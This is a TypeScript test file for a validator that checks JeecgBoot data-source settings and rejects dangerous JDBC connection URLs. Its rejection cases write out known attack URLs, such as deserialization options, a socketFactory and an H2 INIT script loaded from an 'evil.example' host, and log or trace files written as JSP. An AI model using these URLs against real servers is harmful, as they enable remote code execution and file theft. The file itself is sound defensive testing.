import { describe, expect, it } from "vitest";
import { checkDataSource } from "./check-data-source.js";
import { parseJdbcUrl } from "./jdbc-url.js";

/** JeecgBoot's data-source form: each database type with the driver and URL it fills in. */
const JEECG_TEMPLATES: ReadonlyArray<readonly [dbType: string, dbDriver: string, dbUrl: string]> = [
  [
    "1",
    "com.mysql.jdbc.Driver",
    "jdbc:mysql://127.0.0.1:3306/jeecg-boot?characterEncoding=UTF-8&useUnicode=true&useSSL=false",
  ],
  [
    "4",
    "com.mysql.cj.jdbc.Driver",
    "jdbc:mysql://127.0.0.1:3306/jeecg-boot?characterEncoding=UTF-8&useUnicode=true&useSSL=false&tinyInt1isBit=false&allowPublicKeyRetrieval=true&serverTimezone=Asia/Shanghai",
  ],
  ["2", "oracle.jdbc.OracleDriver", "jdbc:oracle:thin:@127.0.0.1:1521:ORCL"],
  [
    "3",
    "com.microsoft.sqlserver.jdbc.SQLServerDriver",
    "jdbc:sqlserver://127.0.0.1:1433;SelectMethod=cursor;DatabaseName=jeecgboot",
  ],
  [
    "5",
    "org.mariadb.jdbc.Driver",
    "jdbc:mariadb://127.0.0.1:3306/jeecg-boot?characterEncoding=UTF-8&useSSL=false",
  ],
  ["6", "org.postgresql.Driver", "jdbc:postgresql://127.0.0.1:5432/jeecg-boot"],
  [
    "7",
    "dm.jdbc.driver.DmDriver",
    "jdbc:dm://127.0.0.1:5236/?jeecg-boot&zeroDateTimeBehavior=convertToNull&useUnicode=true&characterEncoding=utf-8",
  ],
  ["8", "com.kingbase8.Driver", "jdbc:kingbase8://127.0.0.1:54321/jeecg-boot"],
  ["9", "com.oscar.Driver", "jdbc:oscar://192.168.1.125:2003/jeecg-boot"],
  ["11", "com.ibm.db2.jcc.DB2Driver", "jdbc:db2://127.0.0.1:50000/jeecg-boot"],
  ["12", "org.hsqldb.jdbc.JDBCDriver", "jdbc:hsqldb:hsql://127.0.0.1/jeecg-boot"],
  ["13", "org.apache.derby.jdbc.ClientDriver", "jdbc:derby://127.0.0.1:1527/jeecg-boot"],
  ["14", "org.h2.Driver", "jdbc:h2:tcp://127.0.0.1:8082/jeecg-boot"],
];

describe("checkDataSource", () => {
  it.each(JEECG_TEMPLATES)("accepts JeecgBoot's template for database type %s", (dbType, dbDriver, dbUrl) => {
    expect(checkDataSource({ dbType, dbDriver, dbUrl })).toMatchObject({ ok: true });
  });

  it("accepts other forms of the same databases", () => {
    const urls = [
      "jdbc:postgresql://db-a:5432,db-b:5433/report?sslmode=require&ApplicationName=kanya&connectTimeout=10",
      "jdbc:postgresql://[::1]:5432/report",
      "jdbc:mysql://mysql_primary/report?serverTimezone=GMT%2B8",
      "jdbc:oracle:thin:@//db.example.cn:1521/ORCLPDB1",
      "jdbc:oracle:thin:@db.example.cn:1521/ORCLPDB1",
      "jdbc:sqlserver://db\\SQLEXPRESS:1433;databaseName=report;encrypt=true;trustServerCertificate=false;",
      "jdbc:db2://127.0.0.1:50000/report:currentSchema=APP;fullyMaterializeLobData=true;",
      "jdbc:h2:tcp://127.0.0.1:9092/~/report;MODE=MySQL",
      "JDBC:MYSQL://127.0.0.1/report",
    ];
    for (const dbUrl of urls) expect(checkDataSource({ dbUrl }), dbUrl).toMatchObject({ ok: true });
    expect(checkDataSource({})).toEqual({ ok: true });
    expect(
      checkDataSource({ dbType: "15", dbDriver: "org.postgresql.Driver", dbUrl: urls[0] }),
    ).toMatchObject({
      ok: true,
    });
  });

  it.each([
    ["jdbc:mysql://db/x?autoDeserialize=true", "autoDeserialize"],
    ["jdbc:mysql://db/x?useSSL=false&AUTODESERIALIZE=TRUE", "AUTODESERIALIZE"],
    ["jdbc:mysql://db/x?%61utoDeserialize=true", "%61utoDeserialize"],
    ["jdbc:mysql://db/x?allowLoadLocalInfile=true", "allowLoadLocalInfile"],
    ["jdbc:mysql://db/x?allowUrlInLocalInfile=true", "allowUrlInLocalInfile"],
    ["jdbc:mysql://db/x?socketFactory=com.evil.Factory", "socketFactory"],
    [
      "jdbc:mysql://db/x?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
      "queryInterceptors",
    ],
    ["jdbc:mysql://db/x?statementInterceptors=x.Y", "statementInterceptors"],
    ["jdbc:mysql://db/x?allowMultiQueries=true", "allowMultiQueries"],
    ["jdbc:mysql://db/x?user=root&password=x", "user"],
    ["jdbc:mariadb://db/x?sessionVariables=x", "sessionVariables"],
    [
      "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
      "socketFactory",
    ],
    ["jdbc:postgresql://db/x?socketFactoryArg=http://evil.example/x.xml", "socketFactoryArg"],
    ["jdbc:postgresql://db/x?sslfactory=x.Y&sslfactoryarg=http://evil", "sslfactory"],
    ["jdbc:postgresql://db/x?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG", "loggerFile"],
    ["jdbc:postgresql://db/x?sslcert=/etc/passwd", "sslcert"],
    ["jdbc:postgresql://db/x?authenticationPluginClassName=x.Y", "authenticationPluginClassName"],
    ["jdbc:kingbase8://db/x?socketFactory=x.Y", "socketFactory"],
    ["jdbc:sqlserver://db:1433;socketFactoryClass=x.Y", "socketFactoryClass"],
    ["jdbc:sqlserver://db:1433;trustStore=/etc/keys", "trustStore"],
    ["jdbc:db2://db:50000/x:traceFile=/tmp/trace.jsp;", "traceFile"],
    ["jdbc:derby://db:1527/x;create=true", "create"],
    ["jdbc:h2:tcp://db/~/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "INIT"],
    ["jdbc:h2:tcp://db/~/x;TRACE_LEVEL_FILE=3", "TRACE_LEVEL_FILE"],
    ["jdbc:dm://db:5236/?x&cipherPath=/etc/x", "cipherPath"],
    ["jdbc:dm://db:5236/?x&y", "y"],
  ])("refuses %s, naming %s", (dbUrl, option) => {
    expect(checkDataSource({ dbUrl })).toEqual({
      ok: false,
      error: { code: "refusedOption", message: `连接地址含不允许的参数：${option}` },
    });
  });

  it.each([
    "jdbc:mysql://address=(host=db)(autoDeserialize=true)/x",
    "jdbc:mysql://(host=db,port=3306,socketFactory=x.Y)/x",
    "jdbc:mysql://root:pw@db/x",
    "jdbc:mysql://db/x?useSSL=false;autoDeserialize=true",
    "jdbc:mysql://db/x?serverTimezone=Asia/Shanghai'",
    "jdbc:mysql://db /x",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))(CONNECT_DATA=(SID=X)))",
    "jdbc:oracle:thin:@alias?TNS_ADMIN=/etc/oracle",
    "jdbc:oracle:thin:scott/tiger@db:1521:ORCL",
    "jdbc:h2:tcp://db/file:/etc/passwd",
    "jdbc:postgresql:report",
    "jdbc:mysql:loadbalance://db/x",
    "jdbc:oracle:oci:@x",
  ])("refuses the malformed %s", (dbUrl) => {
    expect(checkDataSource({ dbUrl })).toMatchObject({ ok: false, error: { code: "malformed" } });
  });

  it.each([
    ["jdbc:sqlite:/etc/passwd", "fileDatabase"],
    ["jdbc:sqlite::resource:http://evil.example/x.db", "fileDatabase"],
    ["jdbc:sqlite://opt/test.db", "fileDatabase"],
    ["jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'", "fileDatabase"],
    ["jdbc:h2:file:/tmp/x", "fileDatabase"],
    ["jdbc:h2:./x", "fileDatabase"],
    ["jdbc:hsqldb:file:/tmp/x", "fileDatabase"],
    ["jdbc:derby:memory:x;create=true", "fileDatabase"],
    ["jdbc:mysql+srv://db/x", "unknownUrl"],
    ["jdbc:clickhouse://db:8123/x", "unknownUrl"],
    ["mysql://db/x", "notJdbc"],
  ])("refuses %s (%s)", (dbUrl, code) => {
    expect(checkDataSource({ dbUrl })).toMatchObject({ ok: false, error: { code } });
  });

  it("refuses unknown drivers and types, and SQLite or embedded databases by type or driver", () => {
    expect(checkDataSource({ dbDriver: "com.evil.Driver" })).toEqual({
      ok: false,
      error: { code: "unknownDriver", message: "不支持的数据库驱动：com.evil.Driver" },
    });
    expect(checkDataSource({ dbType: "99" })).toMatchObject({ error: { message: "不支持的数据库类型：99" } });
    expect(checkDataSource({ dbType: "10" })).toMatchObject({
      error: { message: "不允许使用在服务器上打开文件或内存的数据库连接：SQLite" },
    });
    expect(checkDataSource({ dbDriver: "org.sqlite.JDBC" })).toMatchObject({
      error: { code: "fileDatabase" },
    });
    expect(checkDataSource({ dbDriver: "org.apache.derby.jdbc.EmbeddedDriver" })).toMatchObject({
      error: { code: "fileDatabase" },
    });
  });

  it("needs the type, the driver and the URL to name the same database", () => {
    expect(checkDataSource({ dbDriver: "org.postgresql.Driver", dbUrl: "jdbc:mysql://db/x" })).toEqual({
      ok: false,
      error: {
        code: "driverMismatch",
        message: "数据库驱动 org.postgresql.Driver 需要以 jdbc:postgresql:// 开头的连接地址",
      },
    });
    expect(checkDataSource({ dbType: "6", dbDriver: "com.mysql.cj.jdbc.Driver" })).toMatchObject({
      error: { message: "数据库类型 6 与数据库驱动不匹配" },
    });
    expect(checkDataSource({ dbType: "6", dbUrl: "jdbc:mysql://db/x" })).toMatchObject({
      error: { message: "数据库类型 6 与连接地址不匹配" },
    });
    // MySQL 5.5 and 5.7+ are one database with two drivers.
    expect(
      checkDataSource({ dbType: "1", dbDriver: "com.mysql.cj.jdbc.Driver", dbUrl: "jdbc:mysql://db/x" }).ok,
    ).toBe(true);
  });

  it("answers in English when asked", () => {
    expect(checkDataSource({ dbUrl: "jdbc:mysql://db/x?autoDeserialize=true" }, "en-US")).toMatchObject({
      error: { message: "The connection URL holds an option that is not allowed: autoDeserialize" },
    });
  });
});

describe("parseJdbcUrl", () => {
  it("reads hosts, database and options", () => {
    const parsed = parseJdbcUrl("jdbc:mysql://a:3306,b/report?useSSL=false&serverTimezone=Asia/Shanghai");
    expect(parsed.ok && parsed.url).toMatchObject({
      dialect: { id: "mysql" },
      hosts: "a:3306,b",
      database: "report",
      options: [
        ["useSSL", "false"],
        ["serverTimezone", "Asia/Shanghai"],
      ],
    });
  });

  it("shows the expected form when a URL is malformed", () => {
    expect(parseJdbcUrl("jdbc:postgresql://db/x y")).toMatchObject({
      ok: false,
      error: { message: "连接地址格式不正确，应为：jdbc:postgresql://127.0.0.1:5432/jeecg-boot" },
    });
  });
});
